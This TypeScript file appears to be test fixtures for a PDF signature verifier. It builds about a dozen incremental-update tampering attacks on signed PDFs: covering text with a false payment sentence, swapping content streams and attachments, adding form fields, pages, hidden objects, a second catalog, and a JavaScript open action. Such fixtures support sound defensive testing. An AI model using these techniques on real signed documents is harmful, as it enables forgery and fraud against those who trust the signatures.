import { Ref } from '../inspecting/pdfSyntax.ts';
import { Attack } from './attacks.ts';

/** Draws a white box on a page and a sentence over it. */
const FALSE_WORDS = 'q 1 1 1 rg 60 600 400 40 re f Q BT /F0 12 Tf 70 610 Td (Gmina zaplaci 5000 zl) Tj ET';
const FONT = '/Font << /F0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';

/** What somebody may append to a sealed file before signing it; each of them leaves every signature valid. */
export const APPENDED = {
  'a new sentence on page 1': pdf => {
    const attack = new Attack(pdf);
    const page = attack.file.dict(new Ref(attack.page(1), 0));
    const words = attack.addStream('', FALSE_WORDS);
    const own = page.get('/Contents') as Ref;
    attack.change(attack.page(1), {
      '/Contents': `[${own.number} 0 R ${words.number} 0 R]`,
      '/Resources': `<< ${FONT} >>`,
    });
    return attack.bytes();
  },
  'another content under the number of page 1': pdf => {
    const attack = new Attack(pdf);
    const own = attack.file.dict(new Ref(attack.page(1), 0)).get('/Contents') as Ref;
    attack.replaceStream(own.number, FALSE_WORDS);
    return attack.bytes();
  },
  'another content, and the old one again': pdf => {
    const attack = new Attack(pdf);
    const page = attack.page(1);
    const words = attack.addStream('', FALSE_WORDS);
    attack.change(page, { '/Contents': `${words.number} 0 R` });
    const back = new Attack(attack.bytes());
    const own = new Attack(pdf).file.dict(new Ref(page, 0)).get('/Contents') as Ref;
    back.change(page, { '/Contents': `${own.number} 0 R` });
    return back.bytes();
  },
  'a square': pdf =>
    annotated(pdf, '<< /Type /Annot /Subtype /Square /Rect [60 600 460 640] /IC [1 1 1] /C [1 1 1] >>'),
  'a field to fill in': pdf =>
    annotated(pdf, '<< /Type /Annot /Subtype /Widget /FT /Tx /T (kwota) /V (5000) /Rect [60 600 460 640] >>'),
  'a place for a signature that does something': pdf =>
    annotated(pdf, '<< /Type /Annot /Subtype /Widget /FT /Sig /T (x) /A << /S /URI >> /Rect [0 0 9 9] >>'),
  'a page': pdf => {
    const attack = new Attack(pdf);
    const pages = attack.file.catalog.get('/Pages') as Ref;
    const words = attack.addStream('', FALSE_WORDS);
    const added = attack.add(
      `<< /Type /Page /Parent ${pages.number} 0 R /MediaBox [0 0 595 842] /Resources << ${FONT} >> /Contents ${words.number} 0 R >>`,
    );
    const kids = attack.file.list(attack.file.dict(pages).get('/Kids')) as Ref[];
    attack.change(pages.number, {
      '/Kids': `[${kids.map(({ number }) => `${number} 0 R`).join(' ')} ${added.number} 0 R]`,
      '/Count': String(attack.file.pages().length + 1),
    });
    return attack.bytes();
  },
  'another attachment': pdf => {
    const attack = new Attack(pdf);
    const attached = attack.file.numbers().find(number => {
      const value = attack.file.object(number)?.value;
      return value instanceof Map && value.get('/Type') === '/EmbeddedFile';
    });
    attack.replaceStream(attached ?? 0, '{"kwota":5000}');
    return attack.bytes();
  },
  'an object that no table names': pdf => {
    const attack = new Attack(pdf);
    const own = attack.file.dict(new Ref(attack.page(1), 0)).get('/Contents') as Ref;
    attack.add('<< /Hidden true >>');
    const length = FALSE_WORDS.length;
    const hidden = `${own.number} 0 obj\n<< /Length ${length} >>\nstream\n${FALSE_WORDS}\nendstream\nendobj\n`;
    return attack.bytes({ hidden });
  },
  'something to do when the file is opened': pdf => {
    const attack = new Attack(pdf);
    attack.change(attack.root, { '/OpenAction': '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' });
    return attack.bytes();
  },
  'another catalog': pdf => {
    const attack = new Attack(pdf);
    const other = attack.add(
      `<< /Type /Catalog /Pages ${(attack.file.catalog.get('/Pages') as Ref).number} 0 R >>`,
    );
    return Buffer.from(
      attack
        .bytes()
        .toString('latin1')
        .replace(/\/Root \d+ 0 R(?![\s\S]*\/Root)/, `/Root ${other.number} 0 R`),
      'latin1',
    );
  },
} satisfies Record<string, (pdf: Uint8Array) => Buffer>;

function annotated(pdf: Uint8Array, annotation: string): Buffer {
  const attack = new Attack(pdf);
  const page = attack.page(1);
  const added = attack.add(annotation);
  const own = attack.file.list(attack.file.dict(new Ref(page, 0)).get('/Annots')) as Ref[];
  attack.change(page, { '/Annots': `[${[...own, added].map(({ number }) => `${number} 0 R`).join(' ')}]` });
  return attack.bytes();
}
